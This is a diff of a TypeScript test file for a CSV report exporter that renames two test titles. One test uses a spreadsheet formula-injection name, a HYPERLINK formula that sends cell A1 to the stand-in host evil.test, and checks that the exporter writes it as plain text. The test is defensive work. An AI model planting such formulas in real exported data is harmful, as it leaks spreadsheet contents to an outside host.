@@ -6,7 +6,7 @@ function linesOf(report: Parameters<typeof reportCsv>[1]): string[] {
   return reportCsv('rossi.test', report).trimEnd().split('\r\n');
 }
 
-test('every number of the report stands in a line with its site, month, table and name', () => {
+test('writes each number with site, month, table and name when the report is saved', () => {
   const report = reportAnswer();
   const lines = linesOf(report);
   expect(lines[0]).toBe('"Site","Month (UTC)","Table","Name","Visits","Leads","In a flood","Left out"');
@@ -31,7 +31,7 @@ test('every number of the report stands in a line with its site, month, table an
   expect(new Set(lines.map(line => line.split('","').length))).toEqual(new Set([8]));
 });
 
-test('a name that a spreadsheet would run as a formula is text', () => {
+test('writes a name as text when a spreadsheet would run it as a formula', () => {
   const name = '=HYPERLINK("https://evil.test?"&A1,"sale")';
   const lines = linesOf(reportAnswer({ campaigns: [{ name, visits: 1, leads: 0 }] }));
   expect(lines.find(line => line.includes('evil'))).toBe(
